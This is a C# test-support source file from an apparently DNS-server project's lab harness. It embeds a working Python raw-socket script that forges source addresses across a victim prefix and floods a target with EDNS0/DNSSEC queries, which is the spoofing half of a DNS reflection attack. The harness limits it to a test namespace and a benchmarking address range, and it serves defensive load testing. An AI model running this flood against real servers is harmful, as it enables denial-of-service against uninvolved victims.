using System.Globalization;
using System.Net;
using System.Text.Json;

namespace AnycastDns.TestSupport.Lab;

/// <summary>What a <see cref="SpoofedQueryFlood"/> sent: datagrams, their IP octets, from how many forged sources, over how long.</summary>
public sealed record FloodReport(long Sent, long Octets, long Failed, int Sources, double Seconds, DateTimeOffset Started, DateTimeOffset Ended)
{
    public override string ToString() =>
        $"{Sent} spoofed queries ({Octets} IP octets) from {Sources} addresses in {Seconds:0.00} s ({Sent / Math.Max(Seconds, 0.001):0}/s), {Failed} not sent";
}

/// <summary>
/// A reflection attack's first half, as an attacker sends it: UDP queries whose source addresses are forged, spread
/// over every host address of one prefix (the victim's), each from a random source port with a random ID, paced at
/// a fixed rate. The IPv4 and UDP headers are built by hand and sent through a raw socket (<c>IPPROTO_RAW</c>, which
/// implies <c>IP_HDRINCL</c>), so the kernel sends the forged source as is; the DNS message is dnspython's (EDNS0 with
/// the payload size and DO bit an amplifier looks for). Runs inside a namespace the test made, to its end; bounded
/// by the count and by a deadline of twice its length.
/// </summary>
public static class SpoofedQueryFlood
{
    /// <summary>argv: target, victim network, prefix length, qname, qtype, EDNS payload, per second, seconds. Prints one JSON report.</summary>
    private const string Script = """
        import json, random, socket, struct, sys, time
        import dns.message, dns.rdatatype

        target, network, length, qname, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
        payload_size, rate, seconds = int(sys.argv[6]), int(sys.argv[7]), float(sys.argv[8])
        base = struct.unpack("!I", socket.inet_aton(network))[0]
        hosts = (1 << (32 - length)) - 2  # the network and broadcast addresses left out
        dst = socket.inet_aton(target)
        wire = bytearray(dns.message.make_query(qname, dns.rdatatype.from_text(qtype), use_edns=0,
                                                payload=payload_size, want_dnssec=True).to_wire())

        def checksum(data):
            if len(data) % 2:
                data += b"\0"
            s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
            while s >> 16:
                s = (s & 0xFFFF) + (s >> 16)
            return ~s & 0xFFFF

        rng = random.Random()
        total = int(rate * seconds)
        packets = []
        for i in range(total):
            src = struct.pack("!I", base + 1 + i % hosts)
            struct.pack_into("!H", wire, 0, rng.randrange(65536))
            udp_length = 8 + len(wire)
            udp = bytearray(struct.pack("!HHHH", rng.randrange(1024, 65536), 53, udp_length, 0) + wire)
            # RFC 768: the checksum covers a pseudo header of both addresses; 0 means none, so 0 is sent as all ones.
            struct.pack_into("!H", udp, 6, checksum(src + dst + struct.pack("!BBH", 0, 17, udp_length) + bytes(udp)) or 0xFFFF)
            # Version 4, 20 octets, DF; the kernel fills in the identification and header checksum of a raw send.
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, 0, 0x4000, 64, 17, 0, src, dst)
            packets.append(header + bytes(udp))

        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sent = octets = failed = 0
        started_wall = time.time()
        start = time.monotonic()
        deadline = start + 2 * seconds + 1
        i = 0
        while i < total and time.monotonic() < deadline:
            due = min(total, int((time.monotonic() - start) * rate) + 1)
            if i >= due:
                time.sleep(0.0005)
                continue
            while i < due:
                try:
                    octets += sock.sendto(packets[i], (target, 0))
                    sent += 1
                except OSError:
                    failed += 1
                i += 1
        elapsed = time.monotonic() - start
        print(json.dumps({"sent": sent, "octets": octets, "failed": failed, "sources": min(hosts, total),
                          "seconds": elapsed, "started": started_wall, "ended": started_wall + elapsed}), flush=True)
        """;

    /// <summary>
    /// Sends <paramref name="perSecond"/> × <paramref name="duration"/> queries for <paramref name="name"/>
    /// <paramref name="type"/> (EDNS0, payload <paramref name="ednsPayload"/>, DO) to <paramref name="target"/> port 53
    /// from inside <paramref name="space"/>, each from a host address of <paramref name="victim"/> in turn (an IPv4
    /// prefix inside 198.18.0.0/15); returns when all are sent.
    /// </summary>
    public static async Task<FloodReport> RunAsync(NetworkNamespace space, IPAddress target, IPNetwork victim, string name, string type,
        int ednsPayload, int perSecond, TimeSpan duration, CancellationToken cancellationToken)
    {
        ArgumentNullException.ThrowIfNull(space);
        ArgumentNullException.ThrowIfNull(target);
        LabAddress.RequireInRange(victim.ToString());
        if (victim.PrefixLength > 30)
        {
            throw new ArgumentException($"victim prefix {victim} has no room for host addresses", nameof(victim));
        }
        ExternalTool.RequireInstalled(QueryStream.Python, "python3-dnspython");
        string[] arguments =
        [
            "-c", Script, target.ToString(), victim.BaseAddress.ToString(), victim.PrefixLength.ToString(CultureInfo.InvariantCulture), name, type,
            ednsPayload.ToString(CultureInfo.InvariantCulture), perSecond.ToString(CultureInfo.InvariantCulture),
            duration.TotalSeconds.ToString(CultureInfo.InvariantCulture),
        ];
        // Building the datagrams takes a second or two of Python before the first is sent.
        var bound = (2 * duration) + TimeSpan.FromSeconds(30);
        var result = await space.RunAsync(QueryStream.Python, arguments, bound, cancellationToken).ConfigureAwait(false);
        if (result.ExitCode != 0)
        {
            throw new InvalidOperationException($"the spoofed flood failed (exit {result.ExitCode}): {result.Output}");
        }
        using var json = JsonDocument.Parse(result.StandardOutput.Trim());
        var o = json.RootElement;
        return new FloodReport(
            o.GetProperty("sent").GetInt64(), o.GetProperty("octets").GetInt64(), o.GetProperty("failed").GetInt64(),
            o.GetProperty("sources").GetInt32(), o.GetProperty("seconds").GetDouble(),
            UnixTime(o.GetProperty("started").GetDouble()), UnixTime(o.GetProperty("ended").GetDouble()));
    }

    private static DateTimeOffset UnixTime(double seconds) => DateTimeOffset.UnixEpoch.AddTicks((long)(seconds * TimeSpan.TicksPerSecond));
}
